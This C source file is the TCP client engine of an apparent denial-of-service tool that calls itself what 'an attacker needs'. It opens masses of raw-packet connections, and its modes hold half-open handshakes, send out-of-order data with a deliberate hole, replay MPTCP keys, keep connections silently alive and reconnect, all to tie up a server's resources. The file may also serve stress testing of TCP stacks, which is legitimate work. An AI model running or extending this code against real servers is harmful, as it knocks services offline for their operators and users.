// SPDX-License-Identifier: GPL-2.0
/*
 * The client's side of TCP, as far as an attacker needs one
 *
 * Segments and time come in, segments go out. Sequence numbers are kept as
 * offsets from the initial one: 0 is the SYN, 1 the first byte of the stream.
 */
#include <string.h>

#include "attack_take.h"
#include "util.h"
#include "wire.h"

#define OPT_MSS 2
#define OPT_WSCALE 3
#define OPT_MPTCP 30
#define MP_CAPABLE 0x01		/* subtype 0, version 1 */
#define MP_HMAC_SHA256 0x01
#define DATA_RTO 1000000	/* us without progress before data go again */

struct attack_stats stats;

static uint8_t mptcp_option(const struct conn *c, uint32_t i, uint8_t *o,
			    uint16_t data)
{
	uint64_t key = table_mix(2 * (uint64_t)i + 1);

	o[0] = OPT_MPTCP;
	o[1] = data ? 22 : 20;
	o[2] = MP_CAPABLE;
	o[3] = MP_HMAC_SHA256;
	memcpy(o + 4, &key, 8);
	memcpy(o + 12, c->peer_key, 8);
	if (!data)
		return 20;
	put16(o + 20, data);
	o[22] = 1;
	o[23] = 1;
	return 24;
}

static void conn_send(struct conn *c, uint32_t i, uint8_t flags, uint32_t from,
		      uint32_t len)
{
	uint32_t window = take_window(c) >> (opt.wscale > 0 ? opt.wscale : 0);
	struct segment seg = {
		.seq = c->iss + from,
		.ack = c->rcv_nxt,
		.flags = flags | TCP_ACK,
		.window = window > 65535 ? 65535 : window,
		.data = len ? opt.data + from - 1 : NULL,
		.len = len,
	};
	struct flow flow;

	/* until the peer has seen the keys, every segment repeats them */
	if (c->mptcp && from == 1 && !(flags & TCP_RST))
		seg.option_len = mptcp_option(c, i, seg.options, len);
	table_flow(i, &flow);
	wire_send(&flow, &seg);
}

static void send_syn(struct conn *c, uint32_t i)
{
	struct segment seg = {
		.seq = c->iss,
		.flags = TCP_SYN,
		.window = opt.syn_window,
		.fragment = opt.fragment,
	};
	uint8_t *o = seg.options;
	struct flow flow;

	o[0] = OPT_MSS;
	o[1] = 4;
	put16(o + 2, opt.mss);
	o += 4;
	if (opt.wscale >= 0) {
		const uint8_t ws[] = { 1, OPT_WSCALE, 3, opt.wscale };

		memcpy(o, ws, sizeof(ws));
		o += sizeof(ws);
	}
	if (opt.mptcp) {
		const uint8_t mp[] = { OPT_MPTCP, 4, MP_CAPABLE, MP_HMAC_SHA256 };

		memcpy(o, mp, sizeof(mp));
		o += sizeof(mp);
	}
	if (opt.fragment) {
		/* something for the second one */
		memset(o, 1, 4);
		o += 4;
	}
	seg.option_len = o - seg.options;
	table_flow(i, &flow);
	wire_send(&flow, &seg);
	c->deadline = now_us() + (1000000ULL << c->retries);
}

static void send_data(struct conn *c, uint32_t i)
{
	uint32_t end = opt.data_len + 1, len;
	uint32_t limit = c->una + c->peer_window;

	if (opt.mode == MODE_OFO && c->nxt == 1)
		c->nxt = 2;		/* the hole */
	while (c->nxt < end && c->nxt < limit) {
		uint8_t flags = 0;

		len = end - c->nxt;
		if (len > limit - c->nxt)
			len = limit - c->nxt;
		if (len > opt.segment)
			len = opt.segment;
		if (c->nxt + len == end)
			flags = TCP_PSH | (opt.fin ? TCP_FIN : 0);
		conn_send(c, i, flags, c->nxt, len);
		c->nxt += len + !!(flags & TCP_FIN);
	}
	c->deadline = now_us() + DATA_RTO;
}

bool conn_open_next(void)
{
	struct conn *c;
	uint32_t i;

	c = table_take(&i);
	if (!c)
		return false;
	memset(c, 0, sizeof(*c));
	c->state = CONN_SYN_SENT;
	c->iss = table_mix((uint64_t)stats.opened << 32 | i);
	stats.opened++;
	stats.sent_syn++;
	send_syn(c, i);
	return true;
}

static void conn_dead(struct conn *c, uint32_t i)
{
	if (c->state == CONN_OPEN)
		stats.alive--;
	c->state = CONN_DEAD;
	if (opt.reconnect)
		table_give_back(i);
}

static void take_synack(struct conn *c, uint32_t i, const struct segment *seg)
{
	const uint8_t *o;
	uint8_t len;

	if (opt.mode == MODE_SYN) {
		/* the server repeats its answer: count it once */
		stats.synack += c->deadline != UINT64_MAX;
		c->deadline = UINT64_MAX;
		return;
	}
	if (c->state == CONN_SYN_SENT) {
		c->state = CONN_OPEN;
		stats.synack++;
		stats.established++;
		stats.alive++;
		o = segment_option(seg, OPT_WSCALE, &len);
		if (o && len == 1 && opt.wscale >= 0)
			c->peer_wscale = o[0];
		o = segment_option(seg, OPT_MPTCP, &len);
		if (opt.mptcp && o && len == 10 && o[0] == MP_CAPABLE) {
			c->mptcp = true;
			memcpy(c->peer_key, o + 2, 8);
			stats.mptcp++;
		}
		c->rcv_nxt = seg->seq + 1;
		take_begin(c);
		c->peer_window = seg->window;
		c->una = 1;
		c->nxt = 1;
	}
	/* an ACK of its own: MPTCP's has no data, and a lost one comes again */
	conn_send(c, i, 0, 1, 0);
	c->nxt = 1;
	send_data(c, i);
}

/* takes what its mode takes, answers what asks for an answer */
static void take_data(struct conn *c, uint32_t i, const struct segment *seg)
{
	if (!seg->len && !(seg->flags & TCP_FIN) && seg->seq == c->rcv_nxt)
		return;
	if (!take_segment(c, seg))
		return;
	if (opt.silent && c->una > opt.data_len)
		return;
	stats.answered++;
	/* of the data that were sent, nothing is repeated here */
	conn_send(c, i, 0, c->nxt, 0);
}

static void take_ack(struct conn *c, uint32_t i, const struct segment *seg)
{
	uint32_t acked = seg->ack - c->iss;

	c->peer_window = (uint32_t)seg->window << c->peer_wscale;
	if (acked > c->una && acked <= c->nxt) {
		stats.bytes_acked += acked - c->una;
		c->una = acked;
		c->deadline = now_us() + DATA_RTO;
	}
	if (c->nxt <= opt.data_len)
		send_data(c, i);
}

void conn_input(const struct flow *flow, const struct segment *seg)
{
	struct conn *c;
	uint32_t i;

	c = table_find(flow, &i);
	if (!c || c->state == CONN_FREE || c->state == CONN_DEAD) {
		stats.stray++;
		return;
	}
	if (seg->flags & TCP_RST) {
		if (c->state == CONN_SYN_SENT)
			stats.rst_in_handshake++;
		else
			stats.rst_received++;
		conn_dead(c, i);
	} else if (seg->flags & TCP_SYN) {
		if (seg->ack == c->iss + 1)
			take_synack(c, i, seg);
	} else if (c->state == CONN_SYN_SENT) {
		/* an older connection with these ports: end it, the SYN goes again */
		struct conn old = { .iss = seg->ack };

		conn_send(&old, i, TCP_RST, 0, 0);
	} else {
		take_ack(c, i, seg);
		if (c->state == CONN_OPEN)
			take_data(c, i, seg);
	}
}

void conn_timers(void)
{
	uint64_t now = now_us();
	uint32_t i;

	for (i = 0; i < table_used(); i++) {
		struct conn *c = table_get(i);

		if (c->state == CONN_OPEN && take_tick(c, now))
			conn_send(c, i, 0, c->nxt, 0);
		if (now < c->deadline)
			continue;
		if (c->state == CONN_SYN_SENT) {
			if (c->retries < opt.syn_retries) {
				c->retries++;
				stats.syn_retrans++;
				send_syn(c, i);
			} else {
				stats.syn_unanswered++;
				conn_dead(c, i);
			}
		} else if (c->state == CONN_OPEN && opt.mode != MODE_OFO &&
			   c->una < c->nxt) {
			c->nxt = c->una;	/* all that is not acknowledged */
			send_data(c, i);
		}
	}
}

void conn_reset_all(void)
{
	uint32_t i;

	for (i = 0; i < table_used(); i++) {
		struct conn *c = table_get(i);

		if (c->state == CONN_OPEN || c->state == CONN_CLOSED)
			conn_send(c, i, TCP_RST, c->nxt, 0);
	}
	wire_flush();
}
